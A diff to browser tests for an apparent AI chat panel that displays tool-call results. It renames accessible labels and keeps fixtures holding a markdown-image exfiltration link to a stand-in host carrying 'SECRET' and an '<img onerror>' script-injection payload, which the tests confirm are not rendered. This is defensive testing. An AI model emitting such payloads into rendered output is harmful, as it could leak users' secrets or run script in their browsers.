@@ -47,7 +47,7 @@ describe("a round of tools", () => {
     expect(await toggle.innerText()).toMatch(/fetch\s*done · 5 ms · \d+ characters/);
     await toggle.focus();
     await panel.page.keyboard.press("Enter");
-    const details = panel.page.getByRole("region", { name: "Details of fetch" });
+    const details = panel.page.getByRole("region", { name: "Details for fetch" });
     expect(await details.innerText()).toContain("![x](https://canary.example.invalid/p?d=SECRET)\n<img src=x onerror=alert(1)>");
     expect(await details.locator("img").count()).toBe(0);
     expect(await panel.page.getByRole("button", { name: "Continue" }).count()).toBe(0);
@@ -58,7 +58,7 @@ describe("a round of tools", () => {
     const images = [picture, "https://canary.example.invalid/p.png", "data:image/svg+xml;base64,PHN2Zy8+"];
     await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("show", "done", { images, ms: 1 }))]));
     await panel.page.getByRole("button", { name: /^show/ }).click();
-    await panel.page.getByRole("img", { name: "Image 1 of the result" }).waitFor();
+    await panel.page.getByRole("img", { name: "Result image 1" }).waitFor();
     expect(await panel.page.locator(".tool-body img").count()).toBe(1);
   });
 
@@ -80,7 +80,7 @@ describe("a round of tools", () => {
       conversationId: "c1",
       shown: shown(tools(run("add", "running", { status: "done", text: "42", ms: 7 }))),
     });
-    expect(await panel.page.getByRole("region", { name: "Details of add" }).innerText()).toContain("42");
+    expect(await panel.page.getByRole("region", { name: "Details for add" }).innerText()).toContain("42");
     expect(await panel.page.getByRole("button", { name: /^add/ }).innerText()).toContain("done");
   });
 
